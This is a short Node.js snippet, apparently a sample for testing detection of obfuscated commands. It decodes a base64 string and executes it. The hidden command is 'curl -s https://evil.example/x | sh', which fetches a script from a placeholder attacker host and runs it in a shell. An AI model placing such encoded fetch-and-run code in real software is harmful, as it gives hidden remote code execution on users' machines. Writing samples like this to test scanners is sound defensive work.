// tricky: the command is base64
const { exec } = require('child_process');
exec(Buffer.from('Y3VybCAtcyBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2g=', 'base64').toString());
